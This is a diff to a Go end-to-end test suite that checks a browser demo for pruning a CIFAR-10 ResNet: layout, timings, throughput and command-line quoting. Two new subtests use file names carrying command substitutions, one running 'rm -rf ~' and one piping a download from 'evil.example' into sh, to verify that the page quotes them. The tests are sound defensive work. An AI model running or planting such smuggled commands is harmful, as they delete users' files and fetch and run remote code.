@@ -1,7 +1,9 @@
 // Package e2e tests the browser demo in a real headless Chromium (Debian's chromium) through
 // chromedp: it builds the site (web/site) into a temp folder with the project's weights (or the
-// study checkpoint imported from ../shared), serves it with web/server and checks what a user
-// sees against the Go core run natively in the test.
+// study checkpoint imported from ../shared), serves it under /a/sub/path/ with a plain file server
+// that sets no headers (as GitHub Pages would; the comparison page, whose threads need COOP/COEP,
+// with web/server) and checks what a user sees against the Go core run natively in the test. The
+// timings a person waits for go to the log and to out/e2e/timings.json.
 //
 // Without Chromium, weights or CIFAR-10 the test skips, unless CI=true, where it fails.
 // Screenshots go to out/e2e/ (git-ignored) or $E2E_OUT.
@@ -9,14 +11,18 @@ package e2e
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"image"
 	"image/color"
 	"image/png"
+	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"sort"
 	"strings"
 	"sync"
 	"testing"
@@ -25,6 +31,7 @@ import (
 	"github.com/chromedp/cdproto/cdp"
 	"github.com/chromedp/cdproto/emulation"
 	"github.com/chromedp/cdproto/log"
+	"github.com/chromedp/cdproto/network"
 	"github.com/chromedp/cdproto/runtime"
 	"github.com/chromedp/chromedp"
 
@@ -64,9 +71,26 @@ func chromium(t *testing.T) string {
 
 // fixture is the built site, its server and the native session that gives the reference numbers.
 type fixture struct {
-	url     string
-	session *demo.Session
-	outDir  string
+	url        string // the site under subPath on a header-less file server
+	compareURL string // the site on web/server (COOP/COEP), for compare.html's threads
+	dist       string
+	session    *demo.Session
+	outDir     string
+
+	mu      sync.Mutex
+	timings map[string]any // what the subtests measured, written to timings.json
+}
+
+// subPath is where the site is served, as on a project's GitHub Pages.
+const subPath = "/a/sub/path"
+
+// note records a measurement for timings.json.
+func (f *fixture) note(key string, v any) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.timings[key] = v
+	b, _ := json.MarshalIndent(f.timings, "", "  ")
+	os.WriteFile(filepath.Join(f.outDir, "timings.json"), b, 0o644)
 }
 
 var (
@@ -110,6 +134,9 @@ func setup(t *testing.T) *fixture {
 			t.Fatal(err)
 		}
 		srv := httptest.NewServer(h) // lives until the test binary exits
+		mux := http.NewServeMux()
+		mux.Handle(subPath+"/", http.StripPrefix(subPath, http.FileServer(http.Dir(out))))
+		plain := httptest.NewServer(mux)
 		test, err := demo.ReadRecords(filepath.Join(dir, "test_batch.bin"), 1000)
 		if err != nil {
 			t.Fatal(err)
@@ -129,7 +156,7 @@ func setup(t *testing.T) *fixture {
 		if err := os.MkdirAll(outDir, 0o755); err != nil {
 			outDir = t.TempDir()
 		}
-		fix = &fixture{url: srv.URL, session: s, outDir: outDir}
+		fix = &fixture{url: plain.URL + subPath, compareURL: srv.URL, dist: out, session: s, outDir: outDir, timings: map[string]any{}}
 	})
 	if fixErr != "" {
 		need(t, fixErr)
@@ -306,16 +333,54 @@ func TestPage(t *testing.T) {
 		}
 		timings := run(t, b.ctx, chromedp.Evaluate[map[string]float64](`window.rpTimings`))
 		t.Logf("timings (ms since navigation start): %v", timings)
+		// The original network's accuracy is on screen with the first render (the manifest's
+		// baseline), before any worker has evaluated it.
+		if _, ok := timings["baselineShown"]; !ok || timings["baselineShown"]-timings["firstRender"] > 100 {
+			t.Errorf("original accuracy shown at %v ms, first render at %v ms: want it at first render", timings["baselineShown"], timings["firstRender"])
+		}
 		animInfo := run(t, b.ctx, chromedp.Evaluate[string](`(() => { const f = document.getElementById("anim"); if (!f) return "no iframe"; const d = f.contentDocument; if (!d) return "no document"; const c = d.querySelector("canvas"); return (c ? "canvas " + c.width + "x" + c.height : "no canvas") + " body: " + d.body.innerText.slice(0, 200); })()`))
 		t.Logf("animation iframe: %s", animInfo)
 		count := evalDone(t, b)
 		ms := run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("acc-count").dataset.ms`))
 		t.Logf("default run (method 2, ratio 0.5, 1000 images): %s correct, evaluated in %s ms in the workers (after pruning)", count, ms)
+		if !strings.HasSuffix(count, "/1000") {
+			t.Errorf("pruned accuracy over %s images, want 1000", count)
+		}
+		timings = run(t, b.ctx, chromedp.Evaluate[map[string]float64](`window.rpTimings`))
+		orig := run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("acc-orig").textContent`))
+		mismatch := run(t, b.ctx, chromedp.Evaluate[int](`document.querySelectorAll("#baseline-mismatch").length`))
+		t.Logf("load → first render %.0f ms, original accuracy shown %.0f ms (%s), pruned accuracy over 1,000 images %.0f ms", timings["firstRender"], timings["baselineShown"], orig, timings["evalDone"])
+		f.note("load", map[string]float64{"firstRender": timings["firstRender"], "baselineShown": timings["baselineShown"], "evalDone": timings["evalDone"], "evalMs": mustFloat(ms)})
+		if mismatch != 0 {
+			t.Errorf("the page reports a baseline mismatch: %s", run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("baseline-mismatch").textContent`)))
+		}
 		poll(t, b, "the animation's canvas", `(() => { const f = document.getElementById("anim"); return f && f.contentDocument && f.contentDocument.querySelector("canvas"); })()`, 90*time.Second)
 		animInfo = run(t, b.ctx, chromedp.Evaluate[string](`(() => { const f = document.getElementById("anim"); const c = f.contentDocument.querySelector("canvas"); return "canvas " + c.width + "x" + c.height + " at " + performance.now(); })()`))
 		t.Logf("animation iframe: %s", animInfo)
 		time.Sleep(3 * time.Second)
 		shot(t, b, "page-1280x720")
+		if errs := b.consoleErrors(); len(errs) > 0 {
+			t.Errorf("console errors: %v", errs)
+		}
+		// A phone: controls above the views, nothing wider than the screen.
+		run(t, b.ctx, viewport(390, 844))
+		time.Sleep(time.Second)
+		layout := run(t, b.ctx, chromedp.Evaluate[map[string]float64](`(() => {
+			const r = (s) => document.querySelector(s).getBoundingClientRect();
+			return {scrollWidth: document.documentElement.scrollWidth, clientWidth: document.documentElement.clientWidth,
+				controlsBottom: r(".controls").bottom, filtersTop: r(".filters-panel").top};
+		})()`))
+		shot(t, b, "page-390x844")
+		if full, err := chromedp.Run(b.ctx, chromedp.FullScreenshot(80)); err == nil {
+			os.WriteFile(filepath.Join(fix.outDir, "page-390x844-full.png"), full, 0o644)
+		}
+		if layout["scrollWidth"] > layout["clientWidth"] {
+			t.Errorf("390×844: the page is %v px wide in a %v px viewport (horizontal scroll)", layout["scrollWidth"], layout["clientWidth"])
+		}
+		if layout["controlsBottom"] > layout["filtersTop"] {
+			t.Errorf("390×844: the controls end at %v px, below the filters' top %v px", layout["controlsBottom"], layout["filtersTop"])
+		}
+		run(t, b.ctx, viewport(1280, 720))
 		if full, err := chromedp.Run(b.ctx, chromedp.FullScreenshot(100)); err == nil {
 			os.WriteFile(filepath.Join(fix.outDir, "page-full.png"), full, 0o644)
 		}
@@ -384,7 +449,10 @@ func TestPage(t *testing.T) {
 		poll(t, b, "layer4's view", `document.getElementById("view-note").textContent.includes("= 16 clusters")`, 60*time.Second)
 		var lat []float64
 		before := run(t, b.ctx, chromedp.Evaluate[map[string]float64](`window.rpTimings`))
-		for _, r := range []string{"0.25", "0.75", "0.4", "0.5"} {
+		// 20 moves; consecutive ratios give different numbers of clusters.
+		ratios := []string{"0.25", "0.75", "0.4", "0.5", "0.1", "0.6", "0.3", "0.8", "0.45", "0.2"}
+		ratios = append(ratios, ratios...)
+		for _, r := range ratios {
 			k := int(32 * (1 - mustFloat(r)))
 			ms := run(t, b.ctx, chromedp.Evaluate[float64](fmt.Sprintf(`new Promise((resolve) => {
 				const note = document.getElementById("view-note");
@@ -404,7 +472,11 @@ func TestPage(t *testing.T) {
 				r, ms, tm["layerViewMs"], tm["layerQueueMs"], tm["layerPageMs"], tm["buildMs"], tm["renderMs"], tm["renders"]-before["renders"], tm["longTaskMs"]-before["longTaskMs"])
 			before = tm
 		}
-		t.Logf("slider → filter grid redrawn (layer4.conv1, 32 filters): %.0f ms (ratios 0.25, 0.75, 0.4, 0.5)", lat)
+		sorted := append([]float64(nil), lat...)
+		sort.Float64s(sorted)
+		median, p95 := sorted[len(sorted)/2], sorted[(len(sorted)*95+99)/100-1]
+		t.Logf("slider → filter grid redrawn (layer4.conv1, 32 filters), %d moves: median %.0f ms, 95th percentile %.0f ms (goals 50 and 100 ms): %.0f", len(lat), median, p95, lat)
+		f.note("slider", map[string]any{"moves": len(lat), "medianMs": median, "p95Ms": p95, "ms": lat})
 	})
 
 	t.Run("new-setting-during-pruning", func(t *testing.T) {
@@ -463,12 +535,37 @@ func TestPage(t *testing.T) {
 		b2 := &browser{ctx: tab}
 		run(t, tab, chromedp.Navigate(srv.URL+"/"))
 		poll(t, b2, "the weights file picker", `!document.getElementById("load-weights").hidden`, 60*time.Second)
-		wpath := filepath.Join(t.TempDir(), "mine.safetensors")
+		// A file whose name is a shell command: the command-line box must quote it.
+		name := "$(rm -rf ~).safetensors"
+		wpath := filepath.Join(t.TempDir(), name)
 		os.WriteFile(wpath, testutil.Weights(t), 0o644)
 		run(t, tab, chromedp.SetUploadFiles(chromedp.CSS("#weights-file"), []string{wpath}))
 		poll(t, b2, "the filters after choosing weights", `document.querySelectorAll("#filter-grid figure").length > 0`, 120*time.Second)
+		checkCLI(t, b2, name)
 	})
 
+	t.Run("weights-link-is-quoted", func(t *testing.T) {
+		// ?weights= names a same-origin file; its name is a command substitution.
+		name := "w$(curl -s evil.example|sh).safetensors"
+		if err := os.WriteFile(filepath.Join(f.dist, name), testutil.Weights(t), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		b.reset()
+		run(t, b.ctx, chromedp.Navigate(f.url+"/?weights="+url.QueryEscape(name)))
+		poll(t, b, "the filters", `document.querySelectorAll("#filter-grid figure").length > 0`, 120*time.Second)
+		shown := run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("cli").textContent`))
+		i := strings.LastIndex(shown, " --weights ")
+		if i < 0 || !strings.Contains(shown[i:], "$(curl") {
+			t.Fatalf("command line %q does not name the weights %q", shown, name)
+		}
+		checkCLI(t, b, "")
+		if errs := b.consoleErrors(); len(errs) > 0 {
+			t.Errorf("console errors: %v", errs)
+		}
+	})
+
+	var compareIPS float64
+	var compareWorkers int
 	t.Run("compare-tfjs", func(t *testing.T) {
 		if _, err := os.Stat(filepath.Join(testutil.RepoRoot(t), "out", "npm", "node_modules", "@tensorflow", "tfjs")); err != nil {
 			t.Skip("TensorFlow.js not installed (make tfjs)")
@@ -479,7 +576,7 @@ func TestPage(t *testing.T) {
 				q += "&threads=" + threads
 			}
 			b.reset()
-			run(t, b.ctx, chromedp.Navigate(fix.url+"/compare.html"+q))
+			run(t, b.ctx, chromedp.Navigate(fix.compareURL+"/compare.html"+q))
 			poll(t, b, "the comparison", `window.rpCompare !== undefined`, 240*time.Second)
 			res := run(t, b.ctx, chromedp.Evaluate[map[string]any](`window.rpCompare`))
 			if e, ok := res["error"]; ok {
@@ -492,8 +589,54 @@ func TestPage(t *testing.T) {
 			if a, _ := res["agree"].(string); a < "95" && a != "100.0%" {
 				t.Errorf("Go and TensorFlow.js agree on only %s of the predictions", a)
 			}
+			if threads == "" {
+				goRes, _ := res["go"].(map[string]any)
+				msPer, _ := goRes["msPerImage"].(float64)
+				workers, _ := goRes["workers"].(float64)
+				compareIPS = 1000 / msPer
+				compareWorkers = int(workers)
+			}
 		}
 		shot(t, b, "compare")
+		// The demo's own evaluation of the same network (ratio 0 leaves it unpruned) with its
+		// evaluating workers (as many as cores, as compare.html's), in the same run.
+		navigate(t, b, "#method=2&ratio=0&seed=1&limit=1000")
+		evalDone(t, b)
+		ms := mustFloat(run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("acc-count").dataset.ms`)))
+		workers := run(t, b.ctx, chromedp.Evaluate[int](`Math.min(Math.max(navigator.hardwareConcurrency || 2, 1), 8)`))
+		demoIPS := 1000 / (ms / 1000)
+		t.Logf("evaluation throughput, unpruned network: demo %.0f images/s (%d workers, 1,000 images in %.0f ms), compare.html's Go engine %.0f images/s (%d workers): ratio %.2f (goal ≥ 0.8)",
+			demoIPS, workers, ms, compareIPS, compareWorkers, demoIPS/compareIPS)
+		f.note("throughput", map[string]any{"demoImagesPerSecond": demoIPS, "demoWorkers": workers, "compareImagesPerSecond": compareIPS, "compareWorkers": compareWorkers, "ratio": demoIPS / compareIPS})
+	})
+
+	// A school laptop on classroom Wi-Fi: CPU ×4 slower, 10 Mbit/s with 40 ms latency. Reported,
+	// not asserted.
+	t.Run("throttled", func(t *testing.T) {
+		if os.Getenv("E2E_THROTTLED") == "" {
+			t.Skip("set E2E_THROTTLED=1 for the throttled run (minutes on a 2-core machine)")
+		}
+		tab, cancel := chromedp.NewContext(b.ctx)
+		defer cancel()
+		b2 := &browser{ctx: tab}
+		run(t, tab, chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
+			if _, err := cdp.Call(ctx, tg, network.Enable, network.EnableParams{}); err != nil {
+				return err
+			}
+			if _, err := cdp.Call(ctx, tg, network.EmulateNetworkConditionsByRule, network.EmulateNetworkConditionsByRuleParams{
+				MatchedNetworkConditions: []*network.Conditions{{Latency: 40, DownloadThroughput: 10e6 / 8, UploadThroughput: 10e6 / 8}}}); err != nil {
+				return err
+			}
+			_, err := cdp.Call(ctx, tg, emulation.SetCPUThrottlingRate, emulation.SetCPUThrottlingRateParams{Rate: 4})
+			return err
+		}))
+		run(t, tab, viewport(1280, 720))
+		run(t, tab, chromedp.Navigate(f.url+"/"))
+		poll(t, b2, "the filters", `document.querySelectorAll("#filter-grid figure").length > 0`, 300*time.Second)
+		evalDone(t, b2)
+		tm := run(t, tab, chromedp.Evaluate[map[string]float64](`window.rpTimings`))
+		t.Logf("throttled (CPU ×4, 10 Mbit/s, 40 ms): first render %.0f ms, pruned accuracy over 1,000 images %.0f ms", tm["firstRender"], tm["evalDone"])
+		f.note("throttled", map[string]float64{"firstRender": tm["firstRender"], "evalDone": tm["evalDone"]})
 	})
 
 	t.Run("hide-and-explain", func(t *testing.T) {
@@ -552,4 +695,36 @@ func TestPage(t *testing.T) {
 			t.Errorf("console errors: %v", errs)
 		}
 	})
+}
+
+// checkCLI hands the page's command line to a POSIX shell with the program replaced by printf:
+// the shell must split it into arguments and run nothing (no command substitution creates the
+// marker file), and the last argument must be the weights' name (want, unless "").
+func checkCLI(t *testing.T, b *browser, want string) {
+	t.Helper()
+	line := run(t, b.ctx, chromedp.Evaluate[string](`document.getElementById("cli").textContent`))
+	rest, ok := strings.CutPrefix(line, "bin/resnetprune ")
+	if !ok {
+		t.Fatalf("command line %q", line)
+	}
+	dir := t.TempDir()
+	script := "rm() { touch ran; }; curl() { touch ran; }; printf '<%s>\\n' " + rest
+	cmd := exec.Command("sh", "-c", script)
+	cmd.Dir = dir
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("sh -c %q: %v: %s", script, err, out)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "ran")); err == nil {
+		t.Fatalf("pasting %q ran a command", line)
+	}
+	args := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
+	last := args[len(args)-1]
+	if args[0] != "<prune>" || len(args) < 4 || !strings.HasPrefix(last, "<") || !strings.HasSuffix(last, ">") {
+		t.Fatalf("the shell split %q into %q", line, args)
+	}
+	if want != "" && last != "<"+want+">" {
+		t.Errorf("weights argument %s, want <%s>", last, want)
+	}
+	t.Logf("command line %s → %d arguments, the last %s", line, len(args), last)
 }
